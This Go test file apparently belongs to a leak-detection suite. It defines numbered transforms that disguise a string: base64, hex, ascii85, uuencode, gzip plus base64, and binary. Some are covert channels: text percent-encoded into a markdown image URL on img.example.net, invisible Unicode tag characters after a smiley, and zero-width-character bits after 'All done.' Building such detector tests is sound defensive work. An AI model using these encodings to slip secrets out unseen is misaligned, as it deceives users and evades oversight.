package leaktest

import (
	"bytes"
	"compress/gzip"
	"encoding/ascii85"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"slices"
	"strings"
)

func encoded() []Transform {
	format := func(f string) func(string) string {
		return func(s string) string { return eachRune(s, func(r rune) string { return fmt.Sprintf(f, r) }) }
	}
	return []Transform{
		told("T28", "base64", base64Of),
		told("T29", "base64 over bullets", func(s string) string {
			out := ""
			for c := range slices.Chunk([]byte(base64Of(s)), 20) {
				out += "* " + string(c) + "\n"
			}
			return out
		}),
		told("T31", "hex", func(s string) string { return hex.EncodeToString([]byte(s)) }),
		told("T32", "ascii85", func(s string) string {
			dst := make([]byte, ascii85.MaxEncodedLen(len(s)))
			return string(dst[:ascii85.Encode(dst, []byte(s))])
		}),
		told("T33", "decimal code points", format("%d ")),
		told("T34", "binary octets", format("%08b ")),
		told("T35", "percent-encoding in a URL", func(s string) string {
			return "![chart](https://img.example.net/p.png?d=" + strings.NewReplacer(" ", "%20", "\n", "%0A", ",", "%2C", ":", "%3A").Replace(s) + ")"
		}),
		told("T37", "unicode escapes", format("\\u%04x")),
		told("T38", "uuencode", uuencode),
		told("T39", "gzip then base64", zipped),
		told("T43", "tag characters", func(s string) string {
			return "Sure! Here is a smile 🙂" + eachRune(s, func(r rune) string { return string(0xE0000 + r&0x7F) })
		}),
		told("T45", "zero-width bits", func(s string) string {
			return "All done." + strings.NewReplacer("0", "\u200b", "1", "\u200c").Replace(eachRune(s, func(r rune) string { return fmt.Sprintf("%08b", r&0x7F) }))
		}),
	}
}

func base64Of(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func zipped(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write([]byte(s))
	_ = w.Close()
	return base64Of(b.String())
}

func uuencode(s string) string {
	out := "begin 644 x\n"
	for line := range slices.Chunk([]byte(s), 45) {
		out += string(rune(32 + len(line)))
		for c := range slices.Chunk(line, 3) {
			var b [3]byte
			copy(b[:], c)
			for _, v := range []byte{b[0] >> 2, b[0]<<4&48 | b[1]>>4, b[1]<<2&60 | b[2]>>6, b[2] & 63} {
				if v == 0 {
					v = 64
				}
				out += string(rune(32 + v))
			}
		}
		out += "\n"
	}
	return out + "`\nend\n"
}
